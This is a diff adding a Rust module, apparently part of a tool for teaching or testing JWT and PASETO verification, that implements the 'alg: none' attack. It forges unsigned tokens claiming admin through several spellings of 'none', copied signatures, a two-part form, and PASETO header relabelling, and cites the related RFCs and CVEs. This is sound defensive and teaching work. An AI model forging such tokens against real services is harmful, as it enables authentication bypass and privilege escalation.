@@ -1,0 +1,178 @@
+//! `alg: none`: a token that says of itself that it needs no signature.
+//!
+//! The flawed assumption: the header is a description that can be trusted. It
+//! is part of what the attacker writes. RFC 7519 §6 defines unsecured JWTs and
+//! RFC 7518 §3.6 the algorithm `none`; RFC 8725 §3.1 and §3.2 say that a
+//! verifier accepts what its caller chose and nothing else. Bitten: npm
+//! jsonwebtoken to 8.5.1 with a falsy key (CVE-2022-23540), PyPI Authlib 1.6.5
+//! (CVE-2026-28802), PHP F21/jwt (CVE-2015-2951).
+//!
+//! Other spellings of `none` are here too: a verifier that refuses one word
+//! and folds case elsewhere understands the others. A PASETO has no field to
+//! write `none` into, so the nearest things are tried against it: another
+//! version or purpose in the header, and a body without its signature.
+
+use serde_json::Value;
+
+use crate::attack::{Attack, CannotForge, Forgery};
+use crate::attacker::AttackerView;
+use crate::card::AttackProfile;
+use crate::mint::{self, Signature};
+use crate::notebook::Notebook;
+use crate::scheme::{Purpose, Scheme, Version};
+use crate::weakness::Weakness;
+
+pub(super) struct AlgNone;
+
+static PROFILE: AttackProfile = AttackProfile {
+    id: "alg-none",
+    title: "Unsecured token accepted",
+    assumption: "A token may say of itself that it needs no signature.",
+    breaks: &[Weakness::UnsecuredAccepted, Weakness::NoneBlockList],
+    references: &[
+        (
+            "RFC 8725 §2.1",
+            "Libraries took alg from the token, `none` included, and verified nothing.",
+        ),
+        (
+            "RFC 8725 §3.1",
+            "The caller says which algorithms are acceptable; the library uses no other.",
+        ),
+        (
+            "RFC 8725 §3.2",
+            "`none` only where the caller asks for it and something else protects the token.",
+        ),
+        (
+            "draft-ietf-oauth-rfc8725bis §2.11",
+            "A block list that misses a spelling lets `nOnE` through.",
+        ),
+        (
+            "CVE-2022-23540",
+            "npm jsonwebtoken to 8.5.1 without `algorithms` and with a falsy key; fixed in 9.0.0.",
+        ),
+        (
+            "CVE-2026-28802",
+            "PyPI Authlib 1.6.5 and 1.6.6 accept `alg: none`.",
+        ),
+        ("CVE-2015-2951", "PHP F21/jwt before 2.0 accepts `alg: none`."),
+    ],
+    lesson: include_str!("../../lessons/alg-none.md"),
+};
+
+impl Attack for AlgNone {
+    fn profile(&self) -> &'static AttackProfile {
+        &PROFILE
+    }
+
+    fn forge(&self, view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
+        match view.scheme() {
+            Scheme::Jwt(_) => jwt(view, notes),
+            Scheme::Paseto(version, purpose) => Err(CannotForge::Inexpressible {
+                why: "a PASETO names no algorithm: its header is compared as a whole, and every version and \
+                      purpose has a signature or a tag"
+                    .into(),
+                tried: relabelled(view, version, purpose, notes)?,
+            }),
+        }
+    }
+}
+
+fn jwt(view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
+    notes.step(
+        "Rewrites the claims: the subject becomes admin.",
+        mint::jwt_payload(view.wanted())?,
+    );
+    let honest_signature = view.sample().rsplit('.').next().unwrap_or_default();
+    let mut forgeries = Vec::new();
+    for spelling in ["none", "None", "NONE", "nOnE"] {
+        let header = view.header_with_alg(spelling);
+        notes.variant_step(
+            spelling,
+            format!("Writes {spelling:?} where the header named an algorithm, and leaves the signature out."),
+            Value::Object(header.clone()).to_string(),
+        );
+        let token = mint::jws(&header, view.wanted(), &Signature::Empty)?;
+        forgeries.push(Forgery::new(spelling, token));
+    }
+    let header = view.header_with_alg("none");
+    notes.variant_step(
+        "none-old-signature",
+        "Writes \"none\" and leaves the old signature where it was, in case the verifier wants to see one.",
+        honest_signature,
+    );
+    let copied = Signature::Copied(honest_signature.into());
+    forgeries.push(Forgery::new(
+        "none-old-signature",
+        mint::jws(&header, view.wanted(), &copied)?,
+    ));
+    notes.variant_step(
+        "none-two-parts",
+        "Writes \"none\" and drops the last dot together with the signature.",
+        "",
+    );
+    let unsigned = mint::jws(&header, view.wanted(), &Signature::Empty)?;
+    forgeries.push(Forgery::new(
+        "none-two-parts",
+        unsigned.trim_end_matches('.').to_owned(),
+    ));
+    Ok(forgeries)
+}
+
+/// The nearest things that a PASETO header and body can say.
+fn relabelled(
+    view: &AttackerView<'_>,
+    version: Version,
+    purpose: Purpose,
+    notes: &mut Notebook,
+) -> Result<Vec<Forgery>, CannotForge> {
+    let Some(rest) = view.sample().splitn(3, '.').nth(2) else {
+        return Err(CannotForge::Failed("the sample token has no body".into()));
+    };
+    let payload = mint::paseto_payload(view.wanted())?;
+    let footer = match view.sample_footer() {
+        none if none.is_empty() => none,
+        footer => format!(".{}", mint::part(footer)),
+    };
+    let unsigned = format!("{}{footer}", mint::part(&payload));
+    let (version, purpose, other) = (version.name(), purpose.name(), purpose.other().name());
+    let mut tried = Vec::new();
+    let mut relabel = |variant: &str, action: &str, token: String, why: &str| {
+        notes.variant_step(
+            variant,
+            action,
+            token.split_inclusive('.').take(2).collect::<String>(),
+        );
+        tried.push(Forgery::analogue(variant, token, why));
+    };
+    relabel(
+        "purpose-relabelled",
+        "Writes the other purpose into the header and leaves everything else as it was.",
+        format!("{version}.{other}.{rest}"),
+        "the header's purpose is the nearest thing to an algorithm that the sender could choose",
+    );
+    for other_version in Version::ALL
+        .map(Version::name)
+        .into_iter()
+        .filter(|name| *name != version)
+    {
+        relabel(
+            &format!("version-relabelled-{other_version}"),
+            "Writes another version into the header and leaves everything else as it was.",
+            format!("{other_version}.{purpose}.{rest}"),
+            "the header's version is the nearest thing to an algorithm that the sender could choose",
+        );
+    }
+    relabel(
+        "purpose-none",
+        "Writes \"none\" where the purpose stood, and the claims in the open after it.",
+        format!("{version}.none.{unsigned}"),
+        "`none` goes where the purpose stands, since there is no field for an algorithm",
+    );
+    relabel(
+        "no-signature",
+        "Writes the claims in the open under the public purpose, without a signature.",
+        format!("{version}.public.{unsigned}"),
+        "the signature is left out, as in an unsecured JWT, although nothing in the header can say so",
+    );
+    Ok(tried)
+}
